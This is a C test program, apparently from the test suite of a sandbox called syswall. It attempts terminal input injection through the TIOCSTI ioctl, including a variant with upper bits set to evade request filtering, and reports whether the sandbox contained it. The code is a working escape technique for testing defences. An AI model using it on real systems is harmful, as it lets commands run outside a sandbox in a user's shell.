/* Attack: push characters into the input queue of the terminal the command
 * inherited (ioctl TIOCSTI), so that the shell that started syswall reads
 * and runs them, unconfined, once the sandbox has ended. Tries fd 0, 1, 2
 * and /dev/tty, each with the request as it is and with garbage in the
 * upper 32 bits (the kernel reads the request as an unsigned int).
 * Prints "injected N bytes" (exit 0) or "contained" (exit 1). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int push(int fd, unsigned long req, const char *s) {
  for (const char *p = s; *p; p++)
    if (syscall(SYS_ioctl, fd, req, p) != 0) return errno;
  return 0;
}

int main(int argc, char **argv) {
  const char *text = argc > 1 ? argv[1] : "echo INJECTED\n";
  int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY)};
  const unsigned long reqs[2] = {TIOCSTI, (unsigned long)TIOCSTI | (1UL << 32)};
  for (int i = 0; i < 4; i++) {
    if (fds[i] < 0 || !isatty(fds[i])) { printf("fd %s: not a terminal\n", i < 3 ? (char[]){(char)('0' + i), 0} : "/dev/tty"); continue; }
    for (int j = 0; j < 2; j++) {
      int e = push(fds[i], reqs[j], text);
      if (!e) { printf("injected %zu bytes through %s\n", strlen(text), i < 3 ? "an inherited fd" : "/dev/tty"); return 0; }
      printf("TIOCSTI%s on fd %d: %s\n", j ? " (upper bits set)" : "", i, strerror(e));
    }
  }
  printf("contained\n");
  return 1;
}
